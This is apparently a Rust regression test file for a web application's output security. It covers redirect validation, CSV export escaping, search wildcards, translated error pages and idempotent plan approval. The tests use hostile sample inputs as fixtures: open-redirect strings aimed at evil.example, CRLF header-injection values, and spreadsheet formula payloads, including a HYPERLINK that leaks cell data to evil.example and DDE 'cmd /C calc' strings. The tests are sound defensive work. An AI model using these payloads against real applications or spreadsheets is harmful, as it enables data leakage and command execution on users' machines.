//! Security regressions (issue 12): security_web — what the web writes out.
//! Redirects stay on the site and carry values encoded; every CSV download
//! writes formula-like text as text; searches match `%` and `_` as
//! themselves; the framework's own refusals reach a person translated, with
//! the request id; approving twice makes one version.

use jamlik_domain::{IsoDate, PlanDraft};
use jamlik_store::{Actor, OrgFilter, PageRequest};
use reqwest::StatusCode;

use crate::on_both;
use crate::planning::id_after;
use crate::support::{Client, TestApp, TestDbHandle};

fn today() -> String {
    IsoDate::from_date(time::OffsetDateTime::now_utc().date()).to_string()
}

/// Starts a plan in the own organisation through the form; returns its id.
async fn start_plan(app: &TestApp, client: &Client, title: &str) -> String {
    let org = app.world.own.id.to_string();
    let started = client
        .post_form(
            &format!("/orgs/{org}/plans"),
            &[
                ("title", title),
                ("frameworks", "fi-non-discrimination"),
                ("period_start", "2026-01-01"),
                ("period_end", "2029-12-31"),
            ],
        )
        .await;
    assert_eq!(started.status, StatusCode::SEE_OTHER, "{}", started.body);
    id_after(&started.location(), "/plans/")
}

on_both!(
    redirects_after_signing_in_stay_on_the_site,
    |db: TestDbHandle| async move {
        let app = db.app().await;
        let bypasses = [
            "/\t/evil.example",
            "/%09/evil.example",
            "//evil.example",
            "/\\evil.example",
            "https://evil.example",
            "/x\r\nSet-Cookie: a=b",
            "/\n/evil.example",
        ];

        // Signed in, the sign-in page sends the person on at once.
        let signed_in = app.signed_in("coordinator").await;
        for next in bypasses {
            let query = serde_urlencoded::to_string([("next", next)]).unwrap();
            let answer = signed_in.get(&format!("/sign-in?{query}")).await;
            assert_eq!(answer.status, StatusCode::SEE_OTHER, "{next:?}");
            assert_eq!(answer.location(), "/home", "{next:?}");
        }
        // The address exactly as the report gave it.
        let answer = signed_in.get("/sign-in?next=/%09/evil.example").await;
        assert_eq!(answer.location(), "/home");
        // A local path is still followed.
        let answer = signed_in.get("/sign-in?next=/profile").await;
        assert_eq!(answer.location(), "/profile");

        // Signing in with the form.
        for next in bypasses {
            let client = app.client();
            let answer = client
                .post_form(
                    "/sign-in",
                    &[
                        ("email", "coordinator@turku.example"),
                        ("password", crate::support::PASSWORD),
                        ("next", next),
                    ],
                )
                .await;
            assert_eq!(answer.status, StatusCode::SEE_OTHER, "{next:?}");
            assert_eq!(answer.location(), "/home", "{next:?}");
        }
        // Not signed in, the page does not carry an outside `next` into its form.
        let page = app.client().get("/sign-in?next=/%09/evil.example").await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(
            page.body
                .contains("<input type=\"hidden\" name=\"next\" value=\"/home\">"),
            "{}",
            page.body
        );

        // The language switch goes back only to a local path.
        for next in bypasses {
            let answer = signed_in
                .post_form("/language", &[("lang", "en"), ("next", next)])
                .await;
            assert_eq!(answer.status, StatusCode::SEE_OTHER, "{next:?}");
            assert_eq!(answer.location(), "/", "{next:?}");
        }
    }
);

on_both!(
    the_assessment_perspective_is_checked_before_anything_is_saved,
    |db: TestDbHandle| async move {
        let app = db.app().await;
        let org = app.world.own.id.to_string();
        let coordinator = app.signed_in("coordinator").await.with_language("en");
        let plan = start_plan(&app, &coordinator, "Plan").await;
        coordinator
            .post_form(&format!("/orgs/{org}/services"), &[("name", "Library")])
            .await;
        let service = app.store.services(&app.world.own.id).await.unwrap()[0]
            .id
            .clone();
        let path = format!("/orgs/{org}/plans/{plan}/assessment/{service}");

        for perspective in [
            "service-provider\r\nX-Injected: 1",
            "service-provider\n",
            "x&notice=plan-approved#",
            "service-provider&notice=plan-approved#",
            "",
        ] {
            let answer = coordinator
                .post_form(
                    &path,
                    &[("perspective", perspective), ("conclusion:age", "no_risk")],
                )
                .await;
            assert_eq!(
                answer.status,
                StatusCode::UNPROCESSABLE_ENTITY,
                "{perspective:?}: {}",
                answer.body
            );
            assert!(
                answer
                    .body
                    .contains("The perspective is not one of the plan"),
                "{}",
                answer.body
            );
            let (conclusions, answers) = app
                .store
                .service_assessment(&app.world.own.id, &plan, &service)
                .await
                .unwrap();
            assert!(
                conclusions.is_empty() && answers.is_empty(),
                "{perspective:?} saved"
            );
        }

        let saved = coordinator
            .post_form(
                &path,
                &[
                    ("perspective", "service-provider"),
                    ("conclusion:age", "no_risk"),
                ],
            )
            .await;
        assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
        assert_eq!(
            saved.location(),
            format!("{path}?perspective=service-provider&notice=assessment-saved")
        );
    }
);

/// Every cell of a CSV download, read as a spreadsheet would (the
/// byte-order mark and `#` comment lines left out).
fn cells(bytes: &[u8], delimiter: u8) -> Vec<String> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let text = text.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .comment(Some(b'#'))
        .from_reader(text.as_bytes());
    reader
        .records()
        .map(|r| r.unwrap())
        .flat_map(|r| r.iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// No cell begins as a formula would (a number Jämlik wrote is a number),
/// and each planted text is there, as text.
fn assert_no_formula(route: &str, bytes: &[u8], delimiter: u8, planted: &[&str]) {
    let all = cells(bytes, delimiter);
    assert!(!all.is_empty(), "{route}: empty");
    for cell in &all {
        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(
            !formula || cell.parse::<f64>().is_ok(),
            "{route}: a cell begins like a formula: {cell:?}"
        );
    }
    for text in planted {
        assert!(
            all.iter().any(|c| c.starts_with(&format!("'{text}"))),
            "{route}: {text:?} is not there as text: {all:?}"
        );
    }
}

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")";
const CMD: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS: &str = "-2+3+cmd|' /C calc'!A0";

on_both!(
    every_csv_download_writes_formulas_as_text,
    |db: TestDbHandle| async move {
        let app = db.app().await;
        let org = app.world.own.id.to_string();
        let coordinator = app.signed_in("coordinator").await.with_language("en");

        // measures.csv: titles and units typed in the measure form.
        let plan = start_plan(&app, &coordinator, HYPERLINK).await;
        for (title, unit) in [(HYPERLINK, CMD), (SUM, MINUS)] {
            let created = coordinator
                .post_form(
                    &format!("/orgs/{org}/plans/{plan}/measures"),
                    &[("title", title), ("owner_unit", unit)],
                )
                .await;
            assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
        }
        let (status, _, bytes) = coordinator
            .get_bytes(&format!("/orgs/{org}/plans/{plan}/measures.csv"))
            .await;
        assert_eq!(status, StatusCode::OK);
        assert!(bytes.starts_with("\u{feff}id;title".as_bytes()));
        assert_no_formula("measures.csv", &bytes, b';', &[HYPERLINK, CMD, SUM, MINUS]);

        // The services template.
        let (status, _, bytes) = coordinator
            .get_bytes(&format!("/orgs/{org}/services/template.csv"))
            .await;
        assert_eq!(status, StatusCode::OK);
        assert_no_formula("services/template.csv", &bytes, b';', &[]);

        // The analysis evidence: the file's name and its groups come from the upload.
        coordinator
            .post_form(&format!("/orgs/{org}/services"), &[("name", "Home care")])
            .await;
        let service = app.store.services(&app.world.own.id).await.unwrap()[0]
            .id
            .clone();
        let mut data = String::from("gender,hours\n");
        for i in 0..40 {
            let group = if i % 5 < 3 { "=1+2" } else { "@SUM(9)" };
            data.push_str(&format!("{group},{}\n", 10 + i % 7));
        }
        let uploaded = coordinator
            .post_named_file(
                &format!("/orgs/{org}/analysis"),
                "=HYPERLINK(1).csv",
                data.into_bytes(),
            )
            .await;
        assert_eq!(uploaded.status, StatusCode::SEE_OTHER, "{}", uploaded.body);
        let ran = coordinator
            .post_form(
                &uploaded.location(),
                &[
                    ("kind", "resources"),
                    ("group", "gender"),
                    ("outcome", "hours"),
                    ("bad_rows", "stop"),
                    ("threshold", "5"),
                ],
            )
            .await;
        assert_eq!(ran.status, StatusCode::SEE_OTHER, "{}", ran.body);
        let attached = coordinator
            .post_form(
                &format!("{}/evidence", ran.location()),
                &[("target", &format!("assessment:{plan}:{service}"))],
            )
            .await;
        assert_eq!(attached.status, StatusCode::SEE_OTHER, "{}", attached.body);
        let files = app
            .store
            .evidence_files(&app.world.own.id, &plan, &service)
            .await
            .unwrap();
        let (status, _, bytes) = coordinator
            .get_bytes(&format!("/orgs/{org}/evidence/{}", files[0].id))
            .await;
        assert_eq!(status, StatusCode::OK);
        assert_no_formula(
            "analysis evidence",
            &bytes,
            b',',
            &["=HYPERLINK(1).csv", "=1+2", "@SUM(9)"],
        );

        // Open data: an organisation's names and a published plan's approving body.
        let admin = app.signed_in("admin").await.with_language("en");
        let created = admin
            .post_form(
                "/admin/organisations",
                &[
                    ("kind", "employer"),
                    ("country", "FI"),
                    ("code", "-999"),
                    ("name_fi", HYPERLINK),
                    ("name_sv", SUM),
                    ("name_en", ""),
                    ("staff_size", "300"),
                ],
            )
            .await;
        assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
        let employer = id_after(&created.location(), "/orgs/");
        let started = admin
            .post_form(
                &format!("/orgs/{employer}/plans"),
                &[
                    ("title", "Gender equality plan"),
                    ("frameworks", "fi-gender-equality"),
                    ("period_start", "2026-01-01"),
                    ("period_end", "2027-12-31"),
                ],
            )
            .await;
        assert_eq!(started.status, StatusCode::SEE_OTHER, "{}", started.body);
        let employer_plan = id_after(&started.location(), "/plans/");
        let approved = admin
            .post_form(
                &format!("/orgs/{employer}/plans/{employer_plan}/approve"),
                &[
                    ("body", CMD),
                    ("approved_on", &today()),
                    ("decision_ref", "§ 1"),
                ],
            )
            .await;
        assert_eq!(approved.status, StatusCode::SEE_OTHER, "{}", approved.body);
        let published = admin
            .post_form(
                &format!("/orgs/{employer}/plans/{employer_plan}/publish"),
                &[],
            )
            .await;
        assert_eq!(
            published.status,
            StatusCode::SEE_OTHER,
            "{}",
            published.body
        );

        let public = app.client();
        let (status, _, bytes) = public.get_bytes("/open-data/plans.csv").await;
        assert_eq!(status, StatusCode::OK);
        assert!(bytes.starts_with(b"# "), "the licence line stays first");
        assert_no_formula(
            "open-data/plans.csv",
            &bytes,
            b',',
            &[HYPERLINK, SUM, CMD, "-999"],
        );
        let (status, _, bytes) = public.get_bytes("/open-data/statuses.csv").await;
        assert_eq!(status, StatusCode::OK);
        assert_no_formula(
            "open-data/statuses.csv",
            &bytes,
            b',',
            &[HYPERLINK, SUM, "-999"],
        );
    }
);

on_both!(
    a_search_matches_wildcards_as_themselves,
    |db: TestDbHandle| async move {
        let app = db.app().await;
        let admin = app.signed_in("admin").await.with_language("en");
        let created = admin
            .post_form(
                "/admin/organisations",
                &[
                    ("kind", "employer"),
                    ("country", "FI"),
                    ("code", "pct"),
                    ("name_fi", "Sata_100% Oy"),
                    ("name_sv", ""),
                    ("name_en", ""),
                    ("staff_size", "40"),
                ],
            )
            .await;
        assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
        let names = |search: &'static str| {
            let store = app.store.clone();
            async move {
                store
                    .organisations(
                        &OrgFilter {
                            search: Some(search.to_owned()),
                            ..OrgFilter::default()
                        },
                        PageRequest::new(1, 100).unwrap(),
                    )
                    .await
                    .unwrap()
                    .items
                    .into_iter()
                    .map(|o| o.name_fi.unwrap_or_default())
                    .collect::<Vec<_>>()
            }
        };
        assert_eq!(names("%").await, vec!["Sata_100% Oy".to_owned()]);
        assert_eq!(names("_").await, vec!["Sata_100% Oy".to_owned()]);
        assert_eq!(names("a_1").await, vec!["Sata_100% Oy".to_owned()]);
        assert!(names("T_rku").await.is_empty(), "`_` is no wildcard");
        assert!(
            names("!").await.is_empty(),
            "the escape character is itself"
        );
        assert_eq!(names("turku").await, vec!["Turku".to_owned()]);

        // The admin list searches the same way.
        let page = admin.get("/admin/organisations?q=%25").await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(page.body.contains("Sata_100% Oy"), "{}", page.body);
        assert!(
            !page.body.contains("Porvoo"),
            "`%` matched every organisation"
        );

        // And the people's list.
        let people = app
            .store
            .users(Some("_"), PageRequest::new(1, 100).unwrap())
            .await
            .unwrap();
        assert_eq!(people.total, 0, "`_` matched every person");
    }
);

on_both!(
    the_frameworks_refusals_are_translated_with_the_request_id,
    |db: TestDbHandle| async move {
        let app = db.app().await;
        let admin = app.signed_in("admin").await.with_language("en");
        let coordinator = app.signed_in("coordinator").await.with_language("fi");
        for (client, path, message) in [
            (
                &admin,
                "/admin/organisations?page=abc",
                "The request could not be read",
            ),
            (
                &admin,
                "/admin/audit?page=1.5",
                "The request could not be read",
            ),
            (&coordinator, "/orgs/%FF", "Pyyntöä ei voitu lukea"),
            (
                &coordinator,
                "/orgs/%FF/plans/%FE",
                "Pyyntöä ei voitu lukea",
            ),
        ] {
            let answer = client.get(path).await;
            assert_eq!(
                answer.status,
                StatusCode::BAD_REQUEST,
                "{path}: {}",
                answer.body
            );
            assert!(
                answer.headers["content-type"]
                    .to_str()
                    .unwrap()
                    .starts_with("text/html"),
                "{path}"
            );
            assert!(answer.body.contains(message), "{path}: {}", answer.body);
            let request_id = answer.headers["x-request-id"].to_str().unwrap();
            assert!(answer.body.contains(request_id), "{path}: no request id");
            for raw in ["Failed to deserialize", "Invalid URL", "Invalid UTF-8"] {
                assert!(!answer.body.contains(raw), "{path}: {}", answer.body);
            }
        }
        // The API answers the same refusal as JSON with its code.
        let answer = admin
            .api(
                reqwest::Method::GET,
                "/api/v1/organisations/%FF",
                None,
                None,
            )
            .await;
        assert!(answer.status.is_client_error());
        assert!(!answer.body.contains("Invalid URL"), "{}", answer.body);
    }
);

on_both!(
    approving_twice_makes_one_version,
    |db: TestDbHandle| async move {
        let app = db.app().await;
        let org = app.world.own.id.to_string();
        let coordinator = app.signed_in("coordinator").await.with_language("en");
        let plan = start_plan(&app, &coordinator, "Plan").await;
        let approve = [
            ("body", "Council"),
            ("approved_on", "2026-01-15"),
            ("decision_ref", "§ 12"),
        ];
        let path = format!("/orgs/{org}/plans/{plan}/approve");
        let first = coordinator.post_form(&path, &approve).await;
        assert_eq!(first.status, StatusCode::SEE_OTHER, "{}", first.body);
        assert!(first.location().contains("notice=plan-approved"));
        let second = coordinator.post_form(&path, &approve).await;
        assert_eq!(second.status, StatusCode::SEE_OTHER, "{}", second.body);
        assert!(
            second.location().contains("notice=plan-unchanged"),
            "{}",
            second.location()
        );
        let page = coordinator.get(&second.location()).await;
        assert!(
            page.body.contains("no new version was saved"),
            "{}",
            page.body
        );
        let versions = app
            .store
            .plan_versions(&app.world.own.id, &plan)
            .await
            .unwrap();
        assert_eq!(versions.len(), 1, "a second press made a second version");

        // A change, then approval: a new version.
        coordinator
            .post_form(
                &format!("/orgs/{org}/plans/{plan}/measures"),
                &[
                    ("title", "Plain-language letters"),
                    ("owner_unit", "Social"),
                ],
            )
            .await;
        let third = coordinator.post_form(&path, &approve).await;
        assert!(third.location().contains("notice=plan-approved"));
        let versions = app
            .store
            .plan_versions(&app.world.own.id, &plan)
            .await
            .unwrap();
        assert_eq!(versions.len(), 2);

        // Two approvals at the same moment make one version between them.
        let actor = Actor::system("test");
        let draft = PlanDraft::parse(
            "Raced plan",
            &["fi-non-discrimination".to_owned()],
            "2026-01-01",
            "2027-12-31",
            "",
        )
        .unwrap();
        let raced = app
            .store
            .create_plan(&actor, &app.world.own.id, draft)
            .await
            .unwrap();
        let day = IsoDate::parse("2026-02-01").unwrap();
        let approvals = (0..8).map(|_| {
            let store = app.store.clone();
            let (actor, org, plan, day) = (
                actor.clone(),
                app.world.own.id.clone(),
                raced.id.clone(),
                day.clone(),
            );
            tokio::spawn(async move {
                store
                    .approve_plan_once(&actor, &org, &plan, "Board", &day, "§ 3")
                    .await
            })
        });
        let outcomes = futures::future::join_all(approvals).await;
        let made = outcomes
            .into_iter()
            .map(|joined| joined.unwrap().unwrap_or_else(|e| panic!("{e}")))
            .filter(|(_, created)| *created)
            .count();
        assert_eq!(made, 1);
        let versions = app
            .store
            .plan_versions(&app.world.own.id, &raced.id)
            .await
            .unwrap();
        assert_eq!(versions.len(), 1);
    }
);

on_both!(
    a_workbook_that_does_not_read_is_named_without_the_readers_words,
    |db: TestDbHandle| async move {
        let app = db.app().await;
        let org = app.world.own.id.to_string();
        let coordinator = app.signed_in("coordinator").await.with_language("en");
        let mut workbook = rust_xlsxwriter::Workbook::new();
        let sheet = workbook.add_worksheet();
        for row in 0..50_u32 {
            sheet.write_string(row, 0, "nainen").unwrap();
            sheet.write_number(row, 1, f64::from(row)).unwrap();
        }
        let bytes = workbook.save_to_buffer().unwrap();
        // Damaged: the archive cut short, and its XML broken.
        let cut = bytes[..bytes.len() / 2].to_vec();
        let answer = coordinator
            .post_named_file(&format!("/orgs/{org}/analysis"), "broken.xlsx", cut)
            .await;
        assert!(answer.status.is_client_error(), "{}", answer.body);
        assert!(
            answer
                .body
                .contains("The file could not be read as an Excel workbook: it may be damaged"),
            "{}",
            answer.body
        );
        for raw in ["Xml error", "Zip", "zip", "EOF", "invalid"] {
            assert!(!answer.body.contains(raw), "{raw}: {}", answer.body);
        }
    }
);

on_both!(
    a_page_shown_from_a_form_switches_language_back_to_the_form_s_page,
    |db: TestDbHandle| async move {
        let app = db.app().await;
        let client = app.signed_in("coordinator").await.with_language("en");
        let wrong = [
            ("current", "not the password"),
            ("password", "Ljusblå kastanj, nio ekorrar"),
            ("confirm", "Ljusblå kastanj, nio ekorrar"),
        ];
        let next = |body: &str| {
            body.split("name=\"next\" value=\"")
                .nth(1)
                .and_then(|rest| rest.split('"').next())
                .unwrap_or_default()
                .to_owned()
        };
        // The form's error is shown at the address it posted to, which
        // answers only POST: the switcher comes back to the profile page.
        let shown = client
            .post_form_from("/profile", "/profile/password", &wrong)
            .await;
        assert_eq!(
            shown.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{}",
            shown.body
        );
        assert_eq!(next(&shown.body), "/profile");
        let back = client.get(&next(&shown.body)).await;
        assert_eq!(back.status, StatusCode::OK);
        // Another site's page is never where it comes back to.
        let foreign = client
            .post_form_from("https://evil.example/profile", "/profile/password", &wrong)
            .await;
        assert_eq!(next(&foreign.body), "/");
        // A GET page comes back to itself.
        let page = client.get("/profile?notice=profile-saved").await;
        assert_eq!(next(&page.body), "/profile?notice=profile-saved");
    }
);
